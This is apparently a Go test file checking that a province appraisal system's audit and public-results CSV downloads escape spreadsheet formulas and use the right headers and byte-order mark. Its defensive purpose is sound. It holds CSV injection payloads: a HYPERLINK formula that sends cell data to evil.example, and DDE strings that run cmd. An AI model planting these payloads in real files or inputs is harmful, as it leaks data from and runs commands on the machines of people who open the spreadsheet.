package web_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/parindex/parindex/domain"
)

// payloads are the formulas of issue 11 that came back unchanged.
var payloads = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"x")`,
	`+1+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
}

// readDownload parses a CSV download, checking the byte-order mark a
// spreadsheet download starts with.
func readDownload(t *testing.T, what, body string, bom bool) [][]string {
	t.Helper()
	if got := strings.HasPrefix(body, "\ufeff"); got != bom {
		t.Errorf("%s: byte-order mark %v, want %v", what, got, bom)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v\n%s", what, err, body)
	}
	return recs
}

// Comments and reasons typed by staff come back in the audit CSV as text a
// spreadsheet shows, never as formulas; the points stay numbers.
func TestAuditCSVEscapesFormulas(t *testing.T) {
	p := newProvince(t)
	officer, appraiser := p.as("officer1"), p.as("appraiser")
	if code, body := officer.json(http.MethodPut, "/api/v1/periods/2025/units/U1/items/1.2/self", map[string]any{"points": 15, "comment": payloads[0]}); code != 200 {
		t.Fatalf("self: %d %s", code, body)
	}
	p.setPhase(domain.PhaseAppraisal)
	for i, pts := range []float64{10, 12.5, 14} {
		if code, body := appraiser.json(http.MethodPut, "/api/v1/periods/2025/units/U1/items/1.2/appraisal", map[string]any{"points": pts, "comment": payloads[i+1]}); code != 200 {
			t.Fatalf("appraisal %d: %d %s", i, code, body)
		}
	}
	code, body := appraiser.json(http.MethodGet, "/api/v1/periods/2025/units/U1/audit?format=csv", nil)
	p.wantStatus("audit csv", code, body, 200)
	recs := readDownload(t, "audit csv", body, true)
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	var reasons, news []string
	for _, r := range recs[1:] {
		if r[col["kind"]] == "points" {
			reasons = append(reasons, r[col["reason"]])
			news = append(news, r[col["new"]])
		}
	}
	for _, pl := range payloads {
		found := false
		for _, r := range reasons {
			if r == pl {
				t.Errorf("reason %q written as a formula", r)
			}
			if r == "'"+pl {
				found = true
			}
		}
		if !found {
			t.Errorf("reason %q not written escaped; reasons: %q", pl, reasons)
		}
	}
	if strings.Join(news, " ") != "15 10 12.5 14" {
		t.Errorf("new points %q, want plain numbers 15 10 12.5 14", news)
	}
	// Vietnamese headers on request; bom=0 for machines; a wrong bom is
	// refused naming it.
	code, body = appraiser.json(http.MethodGet, "/api/v1/periods/2025/units/U1/audit?format=csv&lang=vi&bom=0", nil)
	p.wantStatus("audit csv vi", code, body, 200)
	if recs := readDownload(t, "audit csv vi", body, false); recs[0][col["reason"]] != "Lý do" || recs[0][0] != "Số thứ tự" {
		t.Errorf("Vietnamese header: %q", recs[0])
	}
	code, body = appraiser.json(http.MethodGet, "/api/v1/periods/2025/units/U1/audit?format=csv&bom=yes", nil)
	if code != 422 || !strings.Contains(body, "bom") {
		t.Errorf("bom=yes: %d %s", code, body)
	}
}

// A decision number and a unit name that look like formulas appear in the
// public results CSV as text, on every row; numbers stay numbers.
func TestPublicResultsCSVEscapesFormulas(t *testing.T) {
	p := newProvince(t)
	if _, _, err := p.st.ImportUnits(t.Context(), []domain.Unit{{Code: "U3", Name: "@SUM(1+1)*cmd|' /C calc'!A0", Group: "SO"}}); err != nil {
		t.Fatal(err)
	}
	officer := p.as("officer1")
	for item, pts := range map[string]any{"1.1": 8, "1.2": 20, "3.1": 30} {
		if code, body := officer.json(http.MethodPut, "/api/v1/periods/2025/units/U1/items/"+item+"/self", map[string]any{"points": pts}); code != 200 {
			t.Fatalf("self %s: %d %s", item, code, body)
		}
	}
	p.setPhase(domain.PhaseFinalAppraisal)
	decision := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	code, body := p.as("committee").json(http.MethodPost, "/api/v1/periods/2025/publication",
		map[string]any{"decision_no": decision, "decision_date": "2025-11-20", "override": "Kiểm thử"})
	p.wantStatus("publish", code, body, 201)

	code, body = p.as("").json(http.MethodGet, "/periods/2025/results.csv", nil)
	p.wantStatus("results.csv", code, body, 200)
	recs := readDownload(t, "results.csv", body, true)
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	if len(recs) < 2 {
		t.Fatalf("no rows: %q", recs)
	}
	for _, r := range recs[1:] {
		if got := r[col["decision_no"]]; got != "'"+decision {
			t.Errorf("%s: decision_no %q, want it escaped", r[col["unit"]], got)
		}
		if r[col["unit"]] == "U3" && r[col["unit_name"]] != "'@SUM(1+1)*cmd|' /C calc'!A0" {
			t.Errorf("U3 name %q, want it escaped", r[col["unit_name"]])
		}
		if r[col["unit"]] == "U1" && (r[col["points"]] != "85.00" || r[col["item:1"]] != "28.00") {
			t.Errorf("U1 numbers %q %q", r[col["points"]], r[col["item:1"]])
		}
	}
	// Vietnamese headers on ?lang=vi, the contract's columns otherwise.
	code, body = p.as("").json(http.MethodGet, "/periods/2025/results.csv?lang=vi&bom=0", nil)
	p.wantStatus("results.csv vi", code, body, 200)
	vi := readDownload(t, "results.csv vi", body, false)
	if vi[0][col["unit_name"]] != "Tên cơ quan, đơn vị" || vi[0][col["item:1"]] != "Điểm mục 1" || vi[0][col["decision_no"]] != "Số quyết định" {
		t.Errorf("Vietnamese header: %q", vi[0])
	}
	if strings.Join(recs[0][:11], ",") != "period,group,unit,unit_name,points,max,index,rank,grade,rank_change,index_change" {
		t.Errorf("default header: %q", recs[0])
	}
}
